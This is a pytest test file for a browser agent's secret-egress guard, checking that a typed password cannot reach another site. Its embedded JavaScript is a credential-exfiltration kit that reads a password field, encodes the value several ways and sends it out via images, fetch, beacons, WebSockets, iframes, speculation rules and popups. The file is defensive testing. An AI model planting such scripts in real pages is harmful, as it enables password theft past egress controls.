"""The door guards the session, not the run: once a secret is live, data to another site is judged whatever
its encoding and whenever it leaves (after ``done``, under the notebook's own ``page.goto``, from a popup's
first moment, by the browser's own speculative requests). Each probe is judged by the other site's request log.

The generator sends the typed value through random reversible transforms nobody lists for the value matcher
(hex, base32, reversed, XOR with a key of the page's own, split in parts, upper case) by random routes (an
image's path or query, a stylesheet, a font, ``import()``, an event stream, a worker, a beacon, a fetch, a
WebSocket message, another site's iframe reached by ``postMessage``, speculation rules, a navigation, a popup):
nothing reaches the other site under ``deny-risky`` nor under ``ask-risky`` with a person who says no.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from notebook_agent.agent import ApprovalAnswer, ApprovalRequest, PageAgent
from notebook_agent.browser import BrowserSession
from notebook_agent.llm.scripted import ScriptedModel
from tests.agent.safety.test_egress import Sites, serve_sites
from tests.agent.test_page_agent import index_of, step
from tests.browser.page.test_screenshot_mask import masked, pixels

SECRET = "Kq7-walrus-Plum9"

TRANSFORMS = ("hex", "base32", "reversed", "xor", "split", "upper")
ROUTES = (
    "image path",
    "image query",
    "stylesheet",
    "font",
    "import",
    "event stream",
    "worker",
    "beacon",
    "fetch post",
    "websocket",
    "iframe message",
    "speculation",
    "navigation",
    "popup",
)

#: The transforms and routes in the page, run on the value of the password field when Continue is clicked.
SEND_JS = r"""
const KEY = 1 + Math.floor(Math.random() * 254);
function hex(s) { return Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, '0')).join(''); }
function b32(s) { const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'; let bits = '', out = '';
  for (const b of new TextEncoder().encode(s)) bits += b.toString(2).padStart(8, '0');
  for (let i = 0; i < bits.length; i += 5) out += A[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
  return out; }
function parts(s, t) {
  if (t === 'hex') return [hex(s)];
  if (t === 'base32') return [b32(s)];
  if (t === 'reversed') return [s.split('').reverse().join('')];
  if (t === 'xor') return [KEY.toString(16)
    + Array.from(s, c => (c.charCodeAt(0) ^ KEY).toString(16).padStart(2, '0')).join('')];
  if (t === 'split') return [s.slice(0, 5), s.slice(5, 10), s.slice(10)];
  if (t === 'upper') return [s.toUpperCase()];
}
function one(p, r) {
  const T = THERE;
  if (r === 'image path') new Image().src = T + '/i/' + p + '.png';
  if (r === 'image query') new Image().src = T + '/i.png?d=' + p;
  if (r === 'stylesheet') { const l = document.createElement('link'); l.rel = 'stylesheet';
    l.href = T + '/c/' + p + '.css'; document.head.appendChild(l); }
  if (r === 'font') new FontFace('f' + p, 'url(' + T + '/f/' + p + '.woff)').load().catch(() => {});
  if (r === 'import') import(T + '/m/' + p + '.js').catch(() => {});
  if (r === 'event stream') { const e = new EventSource(T + '/e/' + p); setTimeout(() => e.close(), 800); }
  if (r === 'worker') { const w = new Worker(URL.createObjectURL(new Blob(
      ['fetch(' + JSON.stringify(T + '/w/' + p) + ', {mode: "no-cors"}).catch(() => {})'],
      {type: 'text/javascript'}))); }
  if (r === 'beacon') navigator.sendBeacon(T + '/b/' + p);
  if (r === 'fetch post') fetch(T + '/p', {method: 'POST', body: p, mode: 'no-cors'}).catch(() => {});
  if (r === 'websocket') { const s = new WebSocket(WS + '/ws'); s.onopen = () => s.send(p); }
  if (r === 'iframe message') document.getElementById('b').contentWindow.postMessage(p, '*');
  if (r === 'speculation') { const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [T + '/s/' + p]}],
                                    prerender: [{source: 'list', urls: [T + '/r/' + p]}]});
    document.body.appendChild(s); }
  if (r === 'navigation') location.href = T + '/n/' + p;
  if (r === 'popup') window.open(T + '/o/' + p);
}
function leak(t, r, later) {
  const v = document.getElementById('pw').value;
  const go = () => { for (const p of parts(v, t)) one(p, r); window.__sent = true; };
  if (later) setTimeout(go, later); else go();
}
"""

#: The other site's page in an iframe: it sends what its parent posts to it, to its own site.
B_FRAME = "<!doctype html><p>b</p><script>onmessage = e => { new Image().src = '/x/' + e.data + '.gif'; };</script>"


def page(sites: Sites, transform: str, route: str, later: int = 0) -> str:
    return (
        "<!doctype html><title>sign in</title><h1>Sign in</h1><input type=password id=pw>"
        f"<button onclick='leak({json.dumps(transform)}, {json.dumps(route)}, {later})'>Continue</button>"
        f"<iframe id=b src='{sites.there}/raw/bframe'></iframe><script>"
        f"const THERE={json.dumps(sites.there)}, WS={json.dumps(sites.ws)};{SEND_JS}</script>"
    )


@pytest.fixture(scope="module")
def sites() -> Iterator[Sites]:
    served = serve_sites()
    s = next(served)
    s.pages["bframe"] = B_FRAME
    yield s
    next(served, None)


def delivered(sites: Sites) -> list[str]:
    """What reached the other site besides its iframe's own page (loaded before the secret was typed)."""
    return [e for e in sites.log if not e.startswith("GET /raw/bframe ")]


async def deny(request: ApprovalRequest) -> ApprovalAnswer:
    return ApprovalAnswer(False, "not there")


POLICIES: dict[str, dict[str, Any]] = {
    "deny-risky": {"approval": "deny-risky"},
    "ask-risky, denied": {"approval": "ask-risky", "approver": deny},
    "allowed_domains": {"approval": "deny-risky", "allowed_domains": ["127.0.0.1"]},
}


async def sign_in(browser: BrowserSession, sites: Sites, name: str, **kw: Any) -> Any:
    """A run that types the secret into the page's password field, clicks Continue and is done."""
    sites.log.clear()
    script = [
        step("input_text", lambda c: {"index": index_of(c, r"type=password"), "text": "<secret>pw</secret>"}),
        step("click_element_by_index", lambda c: {"index": index_of(c, r"Continue")}),
        step("wait", {"seconds": 1}),
        step("done", {"text": "ok", "success": True}),
    ]
    agent = PageAgent(
        model=ScriptedModel(script),
        browser=browser,
        start_url=f"{sites.here}/raw/{name}",
        max_steps=6,
        secrets={sites.here: {"pw": SECRET}},
        **kw,
    )
    result = await agent.run("Sign in")
    await browser.effects_settled()
    await asyncio.sleep(0.5)
    return result


SAMPLE = settings(
    max_examples=12,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.mark.parametrize("policy", ["deny-risky", "ask-risky, denied"])
async def test_no_transform_by_any_route_delivers(browser: BrowserSession, sites: Sites, policy: str) -> None:
    tried: list[tuple[str, str]] = []

    @SAMPLE
    @given(transform=st.sampled_from(TRANSFORMS), route=st.sampled_from(ROUTES))
    def pick(transform: str, route: str) -> None:
        tried.append((transform, route))

    pick()
    for transform, route in tried:
        name = f"gen-{transform}-{route.replace(' ', '-')}"
        sites.pages[name] = page(sites, transform, route)
        result = await sign_in(browser, sites, name, **POLICIES[policy])
        assert delivered(sites) == [], (transform, route, delivered(sites), [s.result for s in result.steps])


async def test_the_probe_delivers_when_nothing_is_live(browser: BrowserSession, sites: Sites) -> None:
    """The generator's pages do reach the other site when no secret is set (else the test above proves nothing)."""
    sites.pages["control"] = page(sites, "hex", "image path")
    sites.log.clear()
    agent = PageAgent(
        model=ScriptedModel(
            [
                step("input_text", lambda c: {"index": index_of(c, r"type=password"), "text": "not a secret"}),
                step("click_element_by_index", lambda c: {"index": index_of(c, r"Continue")}),
                step("wait", {"seconds": 1}),
                step("done", {"text": "ok", "success": True}),
            ]
        ),
        browser=browser,
        start_url=f"{sites.here}/raw/control",
        max_steps=6,
        approval="auto",
    )
    await agent.run("Type it")
    await asyncio.sleep(0.5)
    assert any("/i/" in e for e in delivered(sites)), sites.log


@pytest.mark.parametrize("policy", POLICIES)
async def test_a_timer_after_done_delivers_nothing(browser: BrowserSession, sites: Sites, policy: str) -> None:
    """The page posts the value (hex) to the other site and navigates there two seconds after the run ended."""
    for route in ("fetch post", "navigation", "image path"):
        name = f"later-{route.replace(' ', '-')}"
        sites.pages[name] = page(sites, "hex", route, later=2000)
        await sign_in(browser, sites, name, **POLICIES[policy])
        await browser.page.wait_for_function("window.__sent === true", timeout=15000)
        await asyncio.sleep(0.5)
        assert delivered(sites) == [], (route, delivered(sites))
        assert browser.page.url.startswith(sites.here), browser.page.url


async def test_the_notebooks_own_goto_fires_no_beacon(browser: BrowserSession, sites: Sites) -> None:
    """After the run, the notebook drives the page by hand: the page's unload beacon carries the value (hex)."""
    sites.pages["unload"] = page(sites, "hex", "beacon").replace(
        "</script>", "addEventListener('pagehide', () => leak('hex', 'beacon', 0));</script>"
    )
    await sign_in(browser, sites, "unload", approval="deny-risky")
    await browser.page.goto(f"{sites.here}/raw/bframe")  # a page of the run's own site, by hand
    await asyncio.sleep(0.5)
    assert delivered(sites) == [], delivered(sites)
    assert browser.secrets_live


async def test_speculation_rules_reach_nothing(browser: BrowserSession, sites: Sites) -> None:
    """The browser's own prefetch and prerender, which no route sees, are off in the session's browser."""
    sites.pages["sr"] = page(sites, "hex", "speculation")
    await sign_in(browser, sites, "sr", approval="auto")  # the one policy that judges no effect at all
    assert delivered(sites) == [], delivered(sites)


POPUP_JS = (
    "function pop(kind) { const w = window.open('/raw/blank-popup');"
    " const v = document.getElementById('pw').value, T = THERE;"
    " if (kind === 'beacon') w.addEventListener('pagehide', () => w.navigator.sendBeacon(T + '/pb/' + hex(v)));"
    " if (kind === 'keepalive') w.addEventListener('pagehide', () => w.fetch(T + '/pk/' + hex(v),"
    "   {method: 'POST', body: hex(v), keepalive: true, mode: 'no-cors'}));"
    " if (kind === 'websocket') { const s = new w.WebSocket(WS + '/pw'); s.onopen = () => s.send(hex(v)); }"
    " setTimeout(() => w.close(), 50); window.__sent = true; }"
)


@pytest.mark.parametrize("kind", ["websocket"])
async def test_a_popups_first_moments_deliver_nothing(browser: BrowserSession, sites: Sites, kind: str) -> None:
    sites.pages["blank-popup"] = "<!doctype html><p>popup</p>"
    base = page(sites, "hex", "beacon").replace('leak("hex", "beacon", 0)', f"pop({json.dumps(kind)})")
    sites.pages[f"popup-{kind}"] = base.replace("</script>", POPUP_JS + "</script>")
    for _ in range(5):
        await sign_in(browser, sites, f"popup-{kind}", approval="deny-risky")
        assert delivered(sites) == [], delivered(sites)


async def test_a_picture_taken_by_hand_after_the_run_hides_the_live_secret(
    browser: BrowserSession, sites: Sites
) -> None:
    """The mask follows the session too: the page shows the typed value, the notebook takes a picture later."""
    sites.pages["echo"] = (
        '<!doctype html><input type=password id=pw oninput="echo.textContent = this.value">'
        "<button>Continue</button><p><span id=echo style='font-size:40px;color:#0c0'></span></p>"
    )
    await sign_in(browser, sites, "echo", approval="deny-risky")
    box = await browser.page.locator("#echo").bounding_box()
    assert box is not None and box["width"] > 50  # the page shows the value
    picture = await browser.screenshot()
    centre = (box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    assert masked((await pixels(browser, picture, [centre]))[0])


async def test_the_question_says_a_secret_is_live(browser: BrowserSession, sites: Sites) -> None:
    asked: list[str] = []

    async def record(request: ApprovalRequest) -> ApprovalAnswer:
        asked.append(request.effect or "")
        return ApprovalAnswer(False, "no")

    sites.pages["ask"] = page(sites, "hex", "fetch post")
    await sign_in(browser, sites, "ask", approval="ask-risky", approver=record)
    assert delivered(sites) == []
    said = [q for q in asked if "/p" in q]
    assert said and all("the secret 'pw' (its sites: http://127.0.0.1" in q for q in said), asked
    assert all("is live in this session" in q and SECRET not in q for q in said), asked


async def test_pictures_of_another_site_are_asked_about_once_per_site(browser: BrowserSession, sites: Sites) -> None:
    """A signed-in page's pictures from another site at new paths: a person approves the site once, told a secret
    is live, rather than once per picture."""
    asked: list[str] = []

    async def approve(request: ApprovalRequest) -> ApprovalAnswer:
        asked.append(request.effect or "")
        return ApprovalAnswer(True)

    plain = page(sites, "hex", "image path").replace(f"<iframe id=b src='{sites.there}/raw/bframe'></iframe>", "")
    sites.pages["pictures"] = plain.replace(
        'leak("hex", "image path", 0)',
        'for (const n of [1, 2, 3]) { const i = new Image(); i.src = THERE + "/pic/" + n + ".png"; }',
    )
    await sign_in(browser, sites, "pictures", approval="ask-risky", approver=approve)
    assert sorted(e.split()[1] for e in delivered(sites)) == ["/pic/1.png", "/pic/2.png", "/pic/3.png"]
    pictures = [q for q in asked if "/pic/" in q]
    assert len(pictures) == 1 and "is live in this session" in pictures[0], asked
